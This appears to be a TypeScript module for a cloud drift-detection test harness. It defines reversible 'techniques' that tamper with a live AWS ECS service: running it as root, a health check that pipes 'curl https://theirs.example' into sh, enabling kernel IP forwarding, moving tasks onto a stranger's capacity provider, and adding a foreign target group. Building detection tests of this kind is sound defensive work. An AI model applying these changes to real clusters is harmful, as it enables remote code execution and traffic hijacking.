import {
  type CapacityProviderStrategyItem,
  type ContainerDefinition,
  CreateCapacityProviderCommand,
  DeleteCapacityProviderCommand,
  DescribeServicesCommand,
  DescribeTaskDefinitionCommand,
  DescribeTasksCommand,
  ListTasksCommand,
  PutClusterCapacityProvidersCommand,
  RegisterTaskDefinitionCommand,
  type RegisterTaskDefinitionCommandInput,
  type Service,
  StopTaskCommand,
  UpdateServiceCommand,
} from '@aws-sdk/client-ecs';
import { CreateTargetGroupCommand, DeleteTargetGroupCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
import type { SharedScene, SharedTechnique } from '../surroundings-target';

async function liveService({ surroundings: { cell }, root: { ecs } }: SharedScene): Promise<Service> {
  const { clusterName: cluster } = cell;
  const { services = [] } = await ecs.send(
    new DescribeServicesCommand({ cluster, services: Object.values(cell.services) }),
  );
  const live = services.find(({ desiredCount = 0 }) => desiredCount > 0);
  if (!live) throw new Error('no service of the cell runs a task');
  return live;
}

/** A deployment would stop them when others are healthy: until then they run. */
async function stopTasksOf(revisionArn: string | undefined, { surroundings: { cell }, root: { ecs } }: SharedScene) {
  const { clusterName: cluster } = cell;
  const { taskArns = [] } = await ecs.send(new ListTasksCommand({ cluster }));
  const { tasks = [] } = await ecs.send(new DescribeTasksCommand({ cluster, tasks: taskArns }));
  for (const { taskArn, taskDefinitionArn } of tasks)
    if (taskDefinitionArn === revisionArn) await ecs.send(new StopTaskCommand({ cluster, task: taskArn }));
}

/** Has the live service run another revision of what it runs. */
const revision = (
  name: string,
  ofContainer: Partial<ContainerDefinition>,
  ofTask: Partial<RegisterTaskDefinitionCommandInput>,
  expectedEvidence: string,
): SharedTechnique => ({
  name,
  check: 'cell.service',
  detonate: async (scene) => {
    const { ecs } = scene.root;
    const { serviceName: service, taskDefinition, clusterArn: cluster } = await liveService(scene);
    const { taskDefinition: before } = await ecs.send(new DescribeTaskDefinitionCommand({ taskDefinition }));
    const { containerDefinitions = [], family, ...rest } = before ?? {};
    const { volumes, taskRoleArn, executionRoleArn, networkMode, cpu, memory } = rest;
    const { runtimePlatform, requiresCompatibilities } = rest;
    const made = await ecs.send(
      new RegisterTaskDefinitionCommand({
        ...{ family, volumes, taskRoleArn, executionRoleArn, networkMode, cpu, memory, runtimePlatform },
        requiresCompatibilities,
        containerDefinitions: containerDefinitions.map((each) => ({ ...each, ...ofContainer })),
        ...ofTask,
      }),
    );
    const run = (revisionArn: string | undefined) =>
      ecs.send(new UpdateServiceCommand({ cluster, service, taskDefinition: revisionArn }));
    const revised = made.taskDefinition?.taskDefinitionArn;
    await run(revised);
    const revert = async () => {
      await run(taskDefinition);
      await stopTasksOf(revised, scene);
    };
    return { expectedEvidence, revert };
  },
});

/** How what the cell's services run, and where they register it, is changed. */
export const RUNNING_TASK_TECHNIQUES: readonly SharedTechnique[] = [
  revision('run the shared service as root', { user: 'root' }, {}, 'user of container Service of'),
  revision(
    'have the shared service run a script by its health check',
    { healthCheck: { command: ['CMD-SHELL', 'curl https://theirs.example | sh'] } },
    {},
    'healthCheck of container Service of',
  ),
  revision(
    'change settings of the kernel for the shared service',
    { systemControls: [{ namespace: 'net.ipv4.ip_forward', value: '1' }] },
    {},
    'systemControls of container Service of',
  ),
  revision('give the shared service less memory', {}, { memory: '256' }, 'memory of'),
  {
    name: 'run the shared service’s tasks on a stranger’s servers',
    check: 'cell.service',
    detonate: async (scene) => {
      const { ecs } = scene.root;
      const { clusterName: cluster, services } = scene.surroundings.cell;
      const service = (await liveService(scene)).serviceName === services.blue ? services.green : services.blue;
      const capacityProvider = 'theirs';
      const autoScalingGroupArn =
        'arn:aws:autoscaling:eu-central-1:000000000000:autoScalingGroup:1:autoScalingGroupName/t';
      await ecs.send(
        new CreateCapacityProviderCommand({
          name: capacityProvider,
          autoScalingGroupProvider: { autoScalingGroupArn },
        }),
      );
      const offered = (capacityProviders: string[]) =>
        ecs.send(
          new PutClusterCapacityProvidersCommand({ cluster, capacityProviders, defaultCapacityProviderStrategy: [] }),
        );
      await offered([capacityProvider, 'FARGATE']);
      const run = (capacityProviderStrategy: CapacityProviderStrategyItem[]) =>
        ecs.send(new UpdateServiceCommand({ cluster, service, capacityProviderStrategy, forceNewDeployment: true }));
      await run([{ capacityProvider }]);
      return {
        expectedEvidence: `${service} runs its tasks on servers of ${capacityProvider}`,
        revert: async () => {
          await run([{ capacityProvider: 'FARGATE' }]);
          await offered(['FARGATE']);
          await ecs.send(new DeleteCapacityProviderCommand({ capacityProvider }));
        },
      };
    },
  },
  {
    name: 'register the shared service’s tasks at a stranger’s target group, too',
    check: 'cell.service',
    detonate: async (scene) => {
      const { ecs, elb } = scene.root;
      const { serviceName: service, clusterArn: cluster, loadBalancers = [] } = await liveService(scene);
      const { TargetGroups } = await elb.send(
        new CreateTargetGroupCommand({
          ...{ Name: 'theirs', Protocol: 'HTTP', Port: 8080, TargetType: 'ip' },
          VpcId: scene.surroundings.cell.vpcId,
        }),
      );
      const TargetGroupArn = TargetGroups?.[0]?.TargetGroupArn;
      const register = (at: typeof loadBalancers) =>
        ecs.send(new UpdateServiceCommand({ cluster, service, loadBalancers: at }));
      await register([...loadBalancers, { ...loadBalancers[0], targetGroupArn: TargetGroupArn }]);
      return {
        expectedEvidence: `${TargetGroupArn} (port`,
        revert: async () => {
          await register(loadBalancers);
          await elb.send(new DeleteTargetGroupCommand({ TargetGroupArn }));
        },
      };
    },
  },
];
